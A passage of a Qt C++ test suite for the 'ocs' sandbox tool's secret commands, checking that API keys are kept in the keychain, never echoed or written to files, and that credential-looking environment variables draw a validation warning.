    QCOMPARE(m.value(QStringLiteral("scope")).toString(), QStringLiteral("shared"));
    QCOMPARE(m.value(QStringLiteral("source")).toString(), QStringLiteral("command"));
    QCOMPARE(m.value(QStringLiteral("cacheSeconds")).toInt(), 60);
    // Never a value: not in any output, nor in any file.
    QVERIFY(!r.all().contains(QStringLiteral("value-in-host-env")));
    QVERIFY(!r.all().contains(QStringLiteral("fromcommand")));
    QVERIFY(!allFiles().contains("value-in-host-env"));

    // Outside the project: the shared ones only.
    r = ocs({QStringLiteral("secret"), QStringLiteral("list")}, m_work);
    QVERIFY2(r.exitCode == 0, qPrintable(r.all()));
    QVERIFY2(r.out.contains(QStringLiteral("MINE")) &&
                 !r.out.contains(QStringLiteral("ANTHROPIC_API_KEY")),
             qPrintable(r.out));

    r = ocs({QStringLiteral("secret"), QStringLiteral("rm"), QStringLiteral("ANTHROPIC_API_KEY")},
            root);
    QVERIFY2(r.exitCode == 0, qPrintable(r.all()));
    r = ocs({QStringLiteral("secret"), QStringLiteral("rm"), QStringLiteral("MINE"),
             QStringLiteral("--shared")},
            m_work);
    QVERIFY2(r.exitCode == 0, qPrintable(r.all()));
    r = ocs({QStringLiteral("secret"), QStringLiteral("list"), QStringLiteral("--json")}, root);
    const QJsonArray after =
        QJsonDocument::fromJson(r.out.toUtf8()).object().value(QStringLiteral("secrets")).toArray();
    QCOMPARE(after.size(), 2); // still in the config, with nothing recorded
    for (const QJsonValue &v : after)
        QVERIFY(v.toObject().value(QStringLiteral("scope")).isNull());
}

void TestCli::secret_valueNeedsTheKeychain()
{
    const QString root =
        networkProject(QStringLiteral("nokc"), "http-domain-whitelist: [api.anthropic.com]\n"
                                               "injected-secrets: [ANTHROPIC_API_KEY]\n");
    QVERIFY(!root.isEmpty());
    // OCS_KEYCHAIN=0: no file fallback, a clear error, the value nowhere.
    const CliResult r = ocsWithInput(
        {QStringLiteral("secret"), QStringLiteral("set"), QStringLiteral("ANTHROPIC_API_KEY")},
        root, "sk-ant-stdin-value\n");
    QCOMPARE(r.exitCode, 1);
    QVERIFY2(r.err.contains(QStringLiteral("keychain")), qPrintable(r.all()));
    QVERIFY(!r.all().contains(QStringLiteral("sk-ant-stdin-value")));
    QVERIFY(!allFiles().contains("sk-ant-stdin-value"));
    // A value that cannot go into a header is refused before that, without being shown.
    const CliResult bad = ocsWithInput(
        {QStringLiteral("secret"), QStringLiteral("set"), QStringLiteral("ANTHROPIC_API_KEY")},
        root, "two\nline-secret\n");
    QCOMPARE(bad.exitCode, 1);
    QVERIFY2(bad.err.contains(QStringLiteral("line break")), qPrintable(bad.all()));
    QVERIFY(!bad.all().contains(QStringLiteral("line-secret")));
    const CliResult empty = ocsWithInput(
        {QStringLiteral("secret"), QStringLiteral("set"), QStringLiteral("ANTHROPIC_API_KEY")},
        root, "");
    QCOMPARE(empty.exitCode, 1);
    QVERIFY2(empty.err.contains(QStringLiteral("empty")), qPrintable(empty.all()));
}

void TestCli::secret_usage()
{
    const QString root = networkProject(QStringLiteral("use"), "");
    QVERIFY(!root.isEmpty());
    const QString s = QStringLiteral("secret");
    const auto code = [&](const QStringList &args, const QString &cwd) {
        return ocs(QStringList{s} + args, cwd).exitCode;
    };
    QCOMPARE(code({}, root), 2);
    QCOMPARE(code({QStringLiteral("frob")}, root), 2);
    QCOMPARE(code({QStringLiteral("set")}, root), 2);
    QCOMPARE(code({QStringLiteral("set"), QStringLiteral("1BAD")}, root), 2);
    QCOMPARE(code({QStringLiteral("list"), QStringLiteral("EXTRA")}, root), 2);
    QCOMPARE(code({QStringLiteral("set"), QStringLiteral("K"), QStringLiteral("--from-env"),
                   QStringLiteral("A"), QStringLiteral("--from-command"), QStringLiteral("b")},
                  root),
             2);
    QCOMPARE(code({QStringLiteral("set"), QStringLiteral("K"), QStringLiteral("--cache"),
                   QStringLiteral("5")},
                  root),
             2);
    QCOMPARE(code({QStringLiteral("set"), QStringLiteral("K"), QStringLiteral("--from-command"),
                   QStringLiteral("b"), QStringLiteral("--cache"), QStringLiteral("-1")},
                  root),
             2);
    // A project's own secret needs the project; --shared works anywhere.
    const CliResult outside = ocs({s, QStringLiteral("set"), QStringLiteral("K"),
                                   QStringLiteral("--from-env"), QStringLiteral("A")},
                                  m_work);
    QCOMPARE(outside.exitCode, 1);
    QVERIFY2(outside.err.contains(QStringLiteral("ocs init")), qPrintable(outside.all()));
    QCOMPARE(code({QStringLiteral("set"), QStringLiteral("K"), QStringLiteral("--shared"),
                   QStringLiteral("--from-env"), QStringLiteral("A")},
                  m_work),
             0);
    // The value is never an argument.
    const CliResult help = ocs({s, QStringLiteral("--help")}, root);
    QCOMPARE(help.exitCode, 0);
    QVERIFY(!help.out.contains(QStringLiteral("--value")));
}

// On a terminal `ocs secret set` asks without echo: under a pseudo-terminal (util-linux
// `script`) the typed value is not in what the terminal shows. The control: the same typing
// to a program that does not turn echo off shows up.
void TestCli::secret_terminalInputIsNotEchoed()
{
    const QString scriptTool = QStandardPaths::findExecutable(QStringLiteral("script"));
    if (scriptTool.isEmpty())
        QSKIP("util-linux `script` is not installed");
    const QString root =
        networkProject(QStringLiteral("tty"), "http-domain-whitelist: [api.anthropic.com]\n"
                                              "injected-secrets: [ANTHROPIC_API_KEY]\n");
    QVERIFY(!root.isEmpty());
    // What the terminal shows while `command` runs and the value is typed after `prompt`.
    auto typed = [&](const QString &command, const QByteArray &prompt) {
        QProcess p;
        p.setProcessEnvironment(m_env);
        p.setWorkingDirectory(root);
        p.setProcessChannelMode(QProcess::MergedChannels);
        p.start(scriptTool, {QStringLiteral("-q"), QStringLiteral("-e"), QStringLiteral("-c"),
                             command, QStringLiteral("/dev/null")});
        QByteArray shown;
        if (!p.waitForStarted(10000))
            return shown;
        QElapsedTimer t;
        t.start();
        while (!shown.contains(prompt) && t.elapsed() < 15000) {
            p.waitForReadyRead(200);
            shown += p.readAll();
        }
        p.write("sk-typed-on-the-terminal\n");
        p.closeWriteChannel();
        p.waitForFinished(15000);
        shown += p.readAll();
        return shown;
    };
    const QByteArray control =
        typed(QStringLiteral("printf 'type: '; head -n 1 > /dev/null"), "type: ");
    QVERIFY2(control.contains("sk-typed-on-the-terminal"), control.constData());
    const QByteArray shown = typed(
        QStringLiteral(OCS_BINARY) + QStringLiteral(" secret set ANTHROPIC_API_KEY"), "not shown");
    QVERIFY2(shown.contains("Value of ANTHROPIC_API_KEY"), shown.constData());
    QVERIFY2(shown.contains("keychain"), shown.constData()); // OCS_KEYCHAIN=0: not stored
    QVERIFY2(!shown.contains("sk-typed-on-the-terminal"), shown.constData());
}

// The keychain through the binary, inside one private keyring session (with-keyring.sh runs a
// script of several ocs calls); skipped when no keyring can be had.
void TestCli::secret_keychainRoundTrip()
{
    const QString root =
        networkProject(QStringLiteral("kc"), "http-domain-whitelist: [api.anthropic.com]\n"
                                             "injected-secrets: [ANTHROPIC_API_KEY]\n");
    QVERIFY(!root.isEmpty());
    const QString outDir = m_work + QStringLiteral("/kc-out");
    QVERIFY(QDir().mkpath(outDir));
    const QString id = sandboxIdOf(root, QStringLiteral("kc"));
    const QByteArray script =
        "set -u\n"
        "if [ -n \"${OCS_KEYRING_UNAVAILABLE:-}\" ]; then echo \"$OCS_KEYRING_UNAVAILABLE\" > "
        "\"$OUT/skip\"; exit 0; fi\n"
        "command -v secret-tool >/dev/null || { echo 'no secret-tool' > \"$OUT/skip\"; exit 0; }\n"
        "run() { name=$1; shift; \"$@\" > \"$OUT/$name.out\" 2> \"$OUT/$name.err\"; echo $? > "
        "\"$OUT/$name.rc\"; }\n"
        "printf 'sk-ant-kc-value\\n' | run set \"$OCS\" secret set ANTHROPIC_API_KEY\n"
        "run list \"$OCS\" secret list --json\n"
        "secret-tool lookup server opencode-sandbox user \"secret/$ID/ANTHROPIC_API_KEY\" > "
        "\"$OUT/lookup\"\n"
        "run rm \"$OCS\" secret rm ANTHROPIC_API_KEY\n"
        "run after \"$OCS\" secret list --json\n"
        "secret-tool lookup server opencode-sandbox user \"secret/$ID/ANTHROPIC_API_KEY\" > "
        "\"$OUT/lookup-after\"\n"
        "exit 0\n";
    QVERIFY(writeFile(m_work + QStringLiteral("/kc.sh"), script));
    m_env.remove(QStringLiteral("OCS_KEYCHAIN"));
    m_env.insert(QStringLiteral("OUT"), outDir);
    m_env.insert(QStringLiteral("OCS"), QStringLiteral(OCS_BINARY));
    m_env.insert(QStringLiteral("ID"), id);
    QProcess p;
    p.setProcessEnvironment(m_env);
    p.setWorkingDirectory(root);
    p.start(QStringLiteral(OCS_WITH_KEYRING),
            {QStringLiteral("bash"), m_work + QStringLiteral("/kc.sh")});
    QVERIFY(p.waitForFinished(120000));
    QCOMPARE(p.exitCode(), 0);
    if (QFile::exists(outDir + QStringLiteral("/skip")))
        QSKIP(qPrintable(QStringLiteral("no keyring: ") +
                         QString::fromUtf8(readFile(outDir + QStringLiteral("/skip")))));
    auto file = [&](const char *name) {
        return QString::fromUtf8(readFile(outDir + QLatin1Char('/') + QLatin1String(name)));
    };
    QVERIFY2(file("set.rc").trimmed() == QStringLiteral("0"), qPrintable(file("set.err")));
    QVERIFY2(file("set.out").contains(QStringLiteral("Stored ANTHROPIC_API_KEY in the keychain")),
             qPrintable(file("set.out")));
    QCOMPARE(file("lookup"), QStringLiteral("sk-ant-kc-value"));
    const QJsonArray list = QJsonDocument::fromJson(file("list.out").toUtf8())
                                .object()
                                .value(QStringLiteral("secrets"))
                                .toArray();
    QCOMPARE(list.size(), 1);
    QCOMPARE(list[0].toObject().value(QStringLiteral("set")).toBool(), true);
    QCOMPARE(list[0].toObject().value(QStringLiteral("source")).toString(),
             QStringLiteral("keychain"));
    QCOMPARE(file("rm.rc").trimmed(), QStringLiteral("0"));
    QCOMPARE(file("lookup-after"), QString());
    const QJsonArray after = QJsonDocument::fromJson(file("after.out").toUtf8())
                                 .object()
                                 .value(QStringLiteral("secrets"))
                                 .toArray();
    QCOMPARE(after.size(), 1);
    QCOMPARE(after[0].toObject().value(QStringLiteral("set")).toBool(true), false);
    // No output of ocs holds the value.
    for (const char *n : {"set.out", "set.err", "list.out", "list.err", "rm.out", "after.out"})
        QVERIFY2(!file(n).contains(QStringLiteral("sk-ant-kc-value")), n);
}

void TestCli::validate_suggestsInjection()
{
    const QString root = makeProjectFolder(QStringLiteral("suggest"));
    const QString path = root + QLatin1Char('/') + ConfigName;
    QVERIFY(writeFile(path, "sandbox-name: demo\n"
                            "env-passthrough:\n"
                            "  LOG_LEVEL: LOG_LEVEL\n"
                            "  ANTHROPIC_API_KEY: ANTHROPIC_API_KEY\n"
                            "  MY_SERVICE_TOKEN: TOKEN_ON_HOST\n"));
    const CliResult r = ocs({QStringLiteral("validate")}, root);
    QVERIFY2(r.exitCode == 0, qPrintable(r.all()));
    QVERIFY2(r.out.contains(QStringLiteral(": OK (2 warning(s))")), qPrintable(r.all()));
    QVERIFY2(r.err.contains(path + QStringLiteral(":4:3: warning: env-passthrough: "
                                                  "ANTHROPIC_API_KEY looks like a credential")),
             qPrintable(r.err));
    QVERIFY2(r.err.contains(QStringLiteral("injected-secrets")), qPrintable(r.err));
    QVERIFY2(r.err.contains(path + QStringLiteral(":5:3: warning: env-passthrough: "
                                                  "MY_SERVICE_TOKEN looks like a credential")),
             qPrintable(r.err));
    QVERIFY2(!r.err.contains(QStringLiteral("LOG_LEVEL")), qPrintable(r.err));
    // Only validate says so: other commands stay quiet about it.
    const CliResult other = ocs(
        {QStringLiteral("policy"), QStringLiteral("check"), QStringLiteral("example.com")}, root);
    QVERIFY2(!other.err.contains(QStringLiteral("credential")), qPrintable(other.err));
}

QTEST_GUILESS_MAIN(TestCli)
#include "tst_cli.moc"
